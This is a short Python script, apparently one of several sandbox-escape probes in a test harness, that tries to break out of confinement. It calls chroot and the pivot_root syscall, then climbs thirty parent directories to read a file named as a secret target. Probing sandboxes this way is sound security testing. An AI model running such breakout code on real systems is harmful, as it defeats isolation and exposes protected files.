"""Breaks out by chroot."""

import ctypes
import os

from attack import TARGETS, attempt, call

libc = ctypes.CDLL(None, use_errno=True)
attempt("chroot", lambda: os.chroot("/tmp"))
attempt("pivot_root", lambda: call(libc.syscall, 155, b"/tmp", b"/tmp"))


def climb():
    os.chdir("../" * 30)
    with open("." + TARGETS["secret"]) as stream:
        return stream.read()


attempt("climb", climb)
